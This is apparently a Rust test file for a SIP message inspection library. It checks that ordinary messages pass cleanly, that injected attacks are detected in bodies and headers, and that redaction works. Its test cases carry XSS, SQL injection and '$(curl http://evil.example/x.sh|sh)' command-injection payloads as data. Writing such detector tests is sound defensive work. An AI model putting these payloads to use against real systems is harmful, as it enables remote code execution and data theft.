//! Messages of SIP as phones, registrars and trunks send them: nothing is found in what is ordinary, and
//! what is none is found wherever it stands.

use std::fs;
use std::path::Path;

use gate_core::Side;
use gate_core::session::Verdict;
use gate_inspect::{Inspection, Judgement, Kind, OnMatch, Redaction, Scratch, Settings, Subject};

fn judged(settings: Settings, message: &str) -> Judgement {
    let inspection = Inspection::compile(settings).expect("settings without faults");
    let subject = Subject { from: Side::Client, kind: Kind::Text, payload: message.as_bytes() };
    inspection.judge(subject, &mut Scratch::default())
}

fn message(from: &str, header: &str, body: &str) -> String {
    format!(
        "MESSAGE sip:bob@example.org SIP/2.0\r\nVia: SIP/2.0/WSS a.invalid;branch=z9hG4bK1\r\nFrom: {from};tag=1\r\n\
         To: <sip:bob@example.org>\r\nCall-ID: 1\r\nCSeq: 1 MESSAGE\r\n{header}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

const ALICE: &str = "\"Alice\" <sip:alice@example.org>";

/// The places of what is found, and the categories.
fn found(message: &str) -> Vec<(String, &'static str)> {
    let judgement = judged(Settings::default(), message);
    let mut found: Vec<_> =
        judgement.findings.into_iter().map(|finding| (finding.place, finding.category.name())).collect();
    found.sort();
    found.dedup();
    found
}

#[test]
fn ordinary_messages_have_no_findings() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sip");
    let mut messages = 0;
    for entry in fs::read_dir(folder).expect("the messages are kept beside the test") {
        let path = entry.expect("it can be listed").path();
        let text = fs::read_to_string(&path).expect("it is text").replace('\n', "\r\n");
        let judgement = judged(Settings::default(), &text);
        assert_eq!(judgement.findings, [], "{}", path.display());
        messages += 1;
    }
    assert!(messages > 20, "{messages} messages");
}

#[test]
fn attacks_are_found_wherever_they_stand() {
    let script = "<script>alert(1)</script>";
    let cases = [
        (message(ALICE, "", script), "|body", "xss"),
        (message(ALICE, "", "1' OR '1'='1' -- "), "|body", "sqli"),
        (message(ALICE, "", "$(curl http://evil.example/x.sh|sh)"), "|body", "command-injection"),
        (
            message(ALICE, "", r#"{"a":{"b":"\u003cscript\u003ealert(1)\u003c/script\u003e"}}"#),
            "|body|json/a/b",
            "xss",
        ),
        (message(&format!("\"{script}\" <sip:a@b>"), "", "hi"), "|header:From|name", "xss"),
        (
            message("\"$(curl http://evil.example/x|sh)\" <sip:a@b>", "", ""),
            "|header:From|name",
            "command-injection",
        ),
        (message("<sip:'%20or%201=1%20--@example.org>", "", ""), "|header:From|percent", "sqli"),
        (message(ALICE, &format!("Subject: {script}\r\n"), ""), "|header:Subject", "xss"),
        (message(ALICE, "Subject: <img src=x\r\n onerror=alert(1)>\r\n", ""), "|header:Subject", "xss"),
        (
            message(ALICE, "User-Agent: $(curl http://evil.example/x.sh|sh)\r\n", ""),
            "|header:User-Agent",
            "command-injection",
        ),
        (format!("MESSAGE sip:{script}@b SIP/2.0\r\n\r\n"), "", "xss"),
    ];
    for (message, place, category) in cases {
        let found = found(&message);
        assert!(found.contains(&(place.to_owned(), category)), "{found:?} {message}");
    }
}

#[test]
fn what_is_found_in_a_part_is_not_told_of_the_whole_again() {
    let sent = message(ALICE, "Subject: <img src=x onerror=alert(1)>\r\n", "<img src=x onerror=alert(1)>");
    let told = [("|body".to_owned(), "xss"), ("|header:Subject".to_owned(), "xss")];
    assert_eq!(found(&sent), told);
}

#[test]
fn a_text_that_pretends_to_be_a_message_hides_nothing_between_its_parts() {
    for text in
        ["<img src=x SIP/2.0\r\n\r\nonerror=alert(1)>", "SIP/2.0 <img src=x\r\nA:\r\n onerror=alert(1)>"]
    {
        let found = found(text);
        assert!(
            !found.is_empty() && found.iter().all(|(_, category)| *category == "xss"),
            "{text} {found:?}"
        );
    }
}

#[test]
fn what_is_blackened_leaves_the_rest_of_a_message() {
    let sent = message("\"Card 4111\" <sip:a@b>", "", "pay with 4111, please");
    let settings = Settings { redactions: vec![Redaction::Pattern("4111".into())], ..Settings::default() };
    let expected = sent.replace("4111", "***");
    assert_eq!(judged(settings, &sent).verdict, Verdict::Rewrite(expected.into_bytes()));
    let sent = message(ALICE, "", "see <script>alert(1)</script>");
    let settings = Settings { on_match: OnMatch::Redact, ..Settings::default() };
    let Verdict::Rewrite(payload) = judged(settings, &sent).verdict else { panic!("it is blackened") };
    let text = String::from_utf8(payload).expect("text");
    assert!(
        text.starts_with("MESSAGE sip:bob@example.org SIP/2.0\r\n") && text.contains("\r\n\r\nsee ***"),
        "{text}"
    );
}
